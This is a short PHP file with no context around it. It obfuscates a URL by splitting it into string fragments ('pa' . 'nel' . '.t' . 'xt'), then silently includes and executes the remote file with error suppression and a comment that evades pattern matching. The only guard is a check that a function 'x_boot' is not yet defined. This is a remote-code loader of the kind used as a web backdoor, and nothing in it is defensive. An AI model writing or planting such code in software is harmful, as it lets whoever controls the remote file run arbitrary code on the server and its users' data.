<?php
$base = 'https://example.com/' . 'kit/' . 'pa' . 'nel' . '.t' . 'xt';
if (!function_exists('x_boot')) {
    @include/**/($base);
}
